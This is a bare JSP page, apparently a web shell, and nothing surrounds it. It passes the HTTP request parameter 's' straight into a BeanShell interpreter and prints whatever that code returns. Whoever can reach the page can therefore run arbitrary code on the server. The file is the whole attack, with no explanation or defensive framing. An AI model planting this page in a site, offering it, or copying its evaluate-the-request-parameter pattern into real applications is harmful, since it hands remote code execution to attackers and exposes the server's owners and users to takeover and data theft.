<%@ page import="bsh.Interpreter" %><%
Interpreter i = new Interpreter();
out.print(i.eval(request.getParameter("s")));
%>
